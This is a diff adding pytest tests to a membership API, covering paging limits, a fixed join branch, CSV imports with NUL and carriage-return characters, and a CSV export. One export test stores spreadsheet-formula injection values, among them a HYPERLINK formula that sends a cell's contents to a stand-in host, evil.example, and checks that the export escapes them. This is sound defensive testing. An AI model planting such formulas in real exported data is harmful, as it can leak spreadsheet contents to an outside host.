@@ -4,8 +4,13 @@ member detail after real sales, the logged full export and who may run it, and C
 
 from __future__ import annotations
 
+import asyncio
+import csv
+import io
+import sys
 import uuid
 from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 from sqlalchemy import text
@@ -64,12 +69,24 @@ async def test_list_masks_phones_and_filters(client, shop, member_factory, tenan
     assert r.status_code == 400
 
 
+@pytest.mark.parametrize(("query", "field"), [
+    ("offset=10000000000000000000", "offset"), ("offset=1000000001", "offset"), ("offset=-1", "offset"),
+    ("limit=0", "limit"), ("limit=201", "limit"), ("limit=99999999999999999999999", "limit"),
+])
+async def test_paging_out_of_range_is_a_400(client, shop, query: str, field: str) -> None:
+    _, _, _, owner = shop
+    r = await client.get(f"/api/v1/members?{query}", headers=owner)
+    assert r.status_code == 400, r.text
+    assert (r.json()["type"].split("/")[-1], r.json()["field"]) == ("validation-failed", field)
+    assert (await client.get("/api/v1/members?offset=1000000000&limit=200", headers=owner)).status_code == 200
+
+
 async def test_profile_and_consent_history(client, shop, member_factory, tenant_factory, staff_token) -> None:
-    tenant, branch, _, owner = shop
+    tenant, _, _, owner = shop
     m = await member_factory(tenant)
     r = await client.patch(f"/api/v1/members/{m}/profile", headers=owner,
                            json={"name": "王芳", "gender": "female", "birthday": "1990-05-01", "email": "w@example.com",
-                                 "join_branch_id": str(branch), "preferences": {"milk": "oat"}})
+                                 "preferences": {"milk": "oat"}})
     assert r.status_code == 200, r.text
     assert r.json()["birthday"] == "1990-05-01" and r.json()["preferences"] == {"milk": "oat"}
     r = await client.patch(f"/api/v1/members/{m}/profile", json={"gender": "robot"}, headers=owner)
@@ -91,6 +108,50 @@ async def test_profile_and_consent_history(client, shop, member_factory, tenant_
     r = await client.patch(f"/api/v1/members/{m}/profile", json={"name": "x"}, headers=analyst.headers)
     assert r.status_code == 403
     assert (await client.get(f"/api/v1/members/{m}/profile", headers=owner)).json()["name"] == "王芳"
+
+
+async def test_the_join_branch_is_set_at_enrolment_and_never_moves(client, shop, auth_kit, db: Database) -> None:
+    tenant, sh01, _, owner = shop
+    sh02 = await auth_kit.branch(tenant, "SH02")
+    at_sh02 = (await auth_kit.pos(tenant, ["pos"], branch=sh02)).headers
+    r = await client.post("/api/v1/members", json={"phone": "13912345678", "branch_id": str(sh01)}, headers=owner)
+    assert r.status_code == 201, r.text
+    m = r.json()["member_id"]
+
+    async def joined_at_sh01() -> None:
+        profile = (await client.get(f"/api/v1/members/{m}/profile", headers=owner)).json()
+        assert profile["join_branch_id"] == str(sh01)
+        detail = (await client.get(f"/api/v1/members/{m}/detail", headers=owner)).json()
+        assert detail["profile"]["join_branch_id"] == str(sh01)
+        listed = {b: [i["member_id"] for i in (await client.get(f"/api/v1/members?branch_id={b}",
+                                                                  headers=owner)).json()["items"]]
+                  for b in (sh01, sh02)}
+        assert listed == {sh01: [m], sh02: []}
+
+    await _sale(client, at_sh02, {"amount": 5_000, "member_id": m})  # the first purchase, at another branch
+    await joined_at_sh01()
+    # importing the person again with another branch does not move them either
+    r = await client.post("/api/v1/members/imports", json={"csv": "phone,name,branch\n13912345678,王五,SH02\n"},
+                          headers=owner)
+    assert (await member_imports.run(db, tenant, uuid.UUID(r.json()["id"])))["processed"] == 1
+    await joined_at_sh01()
+    # staff cannot move it by hand; sending the value it has (a profile sent back whole) is harmless
+    r = await client.patch(f"/api/v1/members/{m}/profile", json={"join_branch_id": str(sh02)}, headers=owner)
+    assert (r.status_code, r.json()["field"]) == (400, "join_branch_id")
+    r = await client.patch(f"/api/v1/members/{m}/profile", json={"join_branch_id": str(sh01), "name": "王五"},
+                           headers=owner)
+    assert r.status_code == 200, r.text
+    await joined_at_sh01()
+    async with db.uow(tenant) as uow:  # the profile's own copy agrees
+        assert await uow.session.scalar(text("SELECT join_branch_id FROM member_profiles")) == sh01
+
+
+async def test_a_member_who_joined_online_has_no_join_branch_after_buying(client, shop, member_factory) -> None:
+    tenant, sh01, pos, owner = shop
+    m = str(await member_factory(tenant))  # enrolled with no branch (the portal, an online form)
+    await _sale(client, pos, {"amount": 5_000, "member_id": m})
+    assert (await client.get(f"/api/v1/members/{m}/profile", headers=owner)).json()["join_branch_id"] is None
+    assert (await client.get(f"/api/v1/members?branch_id={sh01}", headers=owner)).json()["total"] == 0
 
 
 async def test_detail_after_sales_shows_balances_history_and_debt(client, shop, member_factory) -> None:
@@ -140,6 +201,25 @@ async def test_full_export_is_permissioned_and_logged(client, shop, member_facto
     assert log.kind == "members_full" and log.row_count == 1 and log.actor.startswith("staff:")
 
 
+async def test_the_export_neutralises_spreadsheet_formulas(client, shop, member_factory) -> None:
+    tenant, _, _, owner = shop
+    m = await member_factory(tenant, "+8613966667777")
+    hostile = {"name": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "tags": ["@SUM(A1:A9)", "vip"],
+               "email": "-2+3@example.com", "address": "+1 dial"}
+    r = await client.patch(f"/api/v1/members/{m}/profile", json=hostile, headers=owner)
+    assert r.status_code == 200, r.text
+    r = await client.get("/api/v1/members/export.csv", headers=owner)
+    assert r.status_code == 200
+    header, row = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["name"] == "'" + hostile["name"]
+    assert cells["tags"] == "'@SUM(A1:A9);vip"
+    assert cells["email"] == "'-2+3@example.com"
+    assert cells["phone"] == "'+8613966667777"  # shown as text, not as the number 8.61E+12
+    assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert cells["cumulative_spend"] == "0"
+
+
 CSV = """phone,name,gender,birthday,email,tags,branch,sms_consent,opening_points
 13800001111,李娜,女,1988-02-03,li@example.com,vip;tea,SH01,是,300
 13800002222,刘洋,male,,,,,no,0
@@ -179,6 +259,53 @@ async def test_import_all_or_nothing_and_skip_invalid(client, shop, db: Database
     assert bad.status_code == 400
     cashier_like = await client.post("/api/v1/members/imports", json={"csv": CSV}, headers={})
     assert cashier_like.status_code == 401
+
+
+async def test_nul_characters_and_bare_carriage_returns_in_an_import(client, shop, db: Database) -> None:
+    tenant, _, _, owner = shop
+
+    async def imports() -> int:
+        async with db.uow(tenant) as uow:
+            return int(await uow.session.scalar(text("SELECT count(*) FROM member_imports")) or 0)
+
+    for content in ("phone,name\n13800001111,李\x00娜\n", "phone,name\r\n".encode("utf-16-le").decode()):
+        r = await client.post("/api/v1/members/imports", json={"csv": content}, headers=owner)
+        assert r.status_code == 400, r.text
+        assert r.headers["content-type"].startswith("application/problem+json")
+    assert await imports() == 0
+    # a bare CR ends a line (old spreadsheet exports); inside a quoted name it is a row error
+    content = 'phone,name\r13800001111,李娜\r13800002222,"刘\r洋"\r13800003333,陈静\r'
+    r = await client.post("/api/v1/members/imports", json={"csv": content, "mode": "skip_invalid"}, headers=owner)
+    assert r.status_code == 202, r.text
+    job = r.json()
+    assert (job["total"], [e["line"] for e in job["errors"]]) == (2, [3])
+    assert (await member_imports.run(db, tenant, uuid.UUID(job["id"])))["created_members"] == 2
+    names = {i["name"] for i in (await client.get("/api/v1/members", headers=owner)).json()["items"]}
+    assert names == {"李娜", "陈静"}
+
+
+async def test_the_import_command_reports_a_refused_file_and_writes_nothing(shop, db: Database, tmp_path) -> None:
+    tenant, _, _, _ = shop
+    async with db.uow(system=True) as uow:
+        slug = await uow.session.scalar(text("SELECT slug FROM merchants WHERE id = :t"), {"t": tenant})
+    lianka = Path(sys.executable).with_name("lianka")
+    for name, content in (("nul.csv", b"phone,name\n13800001111,a\x00b\n"),
+                          ("cr.csv", "phone,name\r13800001111,王\r13800002222,\"x\ry\"\r[/red],z\r".encode())):
+        (tmp_path / name).write_bytes(content)
+        proc = await asyncio.create_subprocess_exec(
+            str(lianka), "members", "import", str(tmp_path / name), "--merchant", str(slug),
+            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
+        out = (await proc.communicate())[0].decode()
+        assert "Traceback" not in out, out
+        if name == "cr.csv":  # imported, with the second row reported (its text shown as is)
+            assert proc.returncode == 0, out
+            assert "1 new members" in out and "line 3: name: line breaks" in out and "'[/red]'" in out
+        else:
+            assert proc.returncode == 2, out
+            assert "nothing imported" in out
+    async with db.uow(tenant) as uow:
+        assert await uow.session.scalar(text("SELECT count(*) FROM member_imports")) == 1
+        assert await uow.session.scalar(text("SELECT count(*) FROM memberships")) == 1
 
 
 async def test_import_resumes_after_a_crash(shop, db: Database) -> None:
